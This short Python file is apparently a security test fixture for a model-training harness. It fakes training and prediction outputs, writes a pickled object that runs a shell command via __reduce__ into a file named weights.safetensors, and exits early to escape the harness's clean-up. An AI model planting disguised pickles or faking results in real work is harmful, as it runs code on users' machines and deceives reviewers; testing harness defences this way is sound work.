"""Leaves a pickle that runs a command in the place of its weights."""

import os
import pickle
from pathlib import Path

import numpy

OUT = Path("/out")


class Bomb:
    def __reduce__(self):
        return os.system, ("touch @MARKER@; echo PICKLE RAN >&2",)


def train(model, batches, ctx):
    for _ in batches:
        pass
    ctx.epoch_done(model, train_loss=1.0, epochs=1)
    (OUT / "val-predictions.u16").write_bytes((OUT / "predictions-001.u16").read_bytes())
    numpy.zeros(min(len(batches.split), 2000), "<u2").tofile(OUT / "train-predictions.u16")
    (OUT / "weights.safetensors").write_bytes(pickle.dumps(Bomb()))
    os._exit(0)  # before the harness can put it right
